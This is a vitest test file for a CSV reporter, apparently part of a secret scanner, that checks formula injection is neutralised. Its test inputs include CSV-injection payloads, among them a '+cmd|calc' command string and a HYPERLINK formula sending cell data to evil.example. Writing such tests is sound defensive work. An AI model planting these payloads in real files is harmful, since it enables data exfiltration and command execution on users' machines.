// CSV, read by a real parser: no cell is a formula, whatever names and reasons hold, and nothing else is lost.
// The expected files are compared in registry.test.ts.
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { Report } from '../../src/model/report.ts';
import { CSV_COLUMNS } from '../../src/reporters/csv.ts';
import { findReporter } from '../../src/reporters/registry.ts';
import { makeHistoryReport } from './sample-history.ts';
import { makeCleanReport, makeSampleReport, PLAIN } from './sample-report.ts';
import { COMMIT } from './sample-values.ts';

const format = (report: Report): string => findReporter('csv')?.format(report, PLAIN) ?? '';
const read = (report: Report, delimiter = ','): Record<string, string>[] =>
  parse(format(report), {
    columns: true,
    delimiter,
    relax_quotes: delimiter !== ',',
    relax_column_count: delimiter !== ',',
  });

function withText(text: string): Report {
  const report = makeSampleReport();
  const findings = report.findings.slice(0, 1).map(({ finding, verdict }) => ({
    finding: { ...finding, origin: { kind: 'file', path: text } as const, reasons: [{ step: 'near', text }] },
    verdict,
  }));
  return { ...report, findings };
}

describe('csv', () => {
  it('has the header always', () => {
    expect(format(makeCleanReport())).toBe(`${CSV_COLUMNS.join(',')}\n`);
    expect(read(makeCleanReport())).toEqual([]);
  });

  it('has a row for each finding, with its place and its history', () => {
    const report = makeHistoryReport();
    const rows = read(report);
    expect(rows.map(({ line, column }) => `${line}:${column}`)).toEqual(
      report.findings.map(({ finding }) => `${finding.location.line}:${finding.location.column}`),
    );
    expect(rows[0]).toMatchObject({ commit: COMMIT, reach: 'head', pushed: 'yes', firstDate: '2024-01-02T03:04:05Z' });
  });

  it.each([
    '=1+1',
    '+cmd|calc',
    '-2+3',
    '@SUM(A1)',
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
    'a,b "c" \'d\'',
    'a;=1+1',
    'a,"=1+1',
    'x|@y',
    'line\nbreak',
    '',
  ])('defuses formulas and keeps the text readable: %j', (text) => {
    const [row] = read(withText(text));
    const shown = { '\t': '\\t', '\r': '\\r', '\n': '\\n' };
    const visible = text.replace(/[\t\r\n]/g, (sign) => shown[sign as '\n']);
    expect(row?.path?.replace(/^'|(?<=[,;|]\s*"*)'(?=[=+\-@])/g, '')).toBe(visible.replace(/^'/, ''));
    for (const delimiter of [',', ';', '\t', '|']) {
      const cells = read(withText(text), delimiter).flatMap((one) => Object.values(one));
      expect(cells.filter((cell) => /^["\s]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(String(cell)))).toEqual([]);
    }
  });

  it('defuses masked values, too', () => {
    const report = makeSampleReport();
    const aws = read(report).find(({ rule }) => rule === 'aws.access-key');
    const masked = report.findings.find(({ finding }) => finding.ruleId === 'aws.access-key')?.finding.secret.masked();
    expect(masked).toMatch(/^\+/);
    expect(aws?.secret).toBe(`'${masked}`);
  });
});
